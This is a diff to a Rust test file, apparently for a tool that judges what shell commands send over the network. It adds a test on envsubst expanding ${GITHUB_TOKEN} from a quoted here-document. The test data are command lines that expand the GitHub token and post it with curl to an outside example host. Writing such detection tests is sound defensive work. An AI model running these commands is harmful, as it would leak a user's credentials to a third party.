@@ -59,3 +59,21 @@ fn a_file_written_from_a_quoted_here_document_is_sent_as_written() {
     assert_eq!(body["env"], serde_json::json!([]), "{body}");
     assert_eq!(body["quoted"], serde_json::json!(["use $NPM_TOKEN in CI"]));
 }
+
+#[test]
+fn text_another_program_printed_is_no_longer_as_written() {
+    // envsubst fills the `${NAME}` of the template it reads: what it
+    // prints is not the quoted text, whether piped on or written to a file.
+    for command in [
+        "cat > t.tpl <<'EOF'\ntoken=${GITHUB_TOKEN}\nEOF\nenvsubst < t.tpl | curl -d @- https://notes.example.net/v2",
+        "cat > t.tpl <<'EOF'\ntoken=${GITHUB_TOKEN}\nEOF\nenvsubst < t.tpl > out.txt; curl -d @out.txt https://notes.example.net/v2",
+    ] {
+        let body = sent(command);
+        assert!(body.get("quoted").is_none(), "{command}: {body}");
+    }
+    // cat prints what it reads as it is.
+    let body = sent(
+        "cat > t.tpl <<'EOF'\ntoken=${GITHUB_TOKEN}\nEOF\ncat t.tpl | curl -d @- https://notes.example.net/v2",
+    );
+    assert_eq!(body["quoted"], serde_json::json!(["token=${GITHUB_TOKEN}"]));
+}
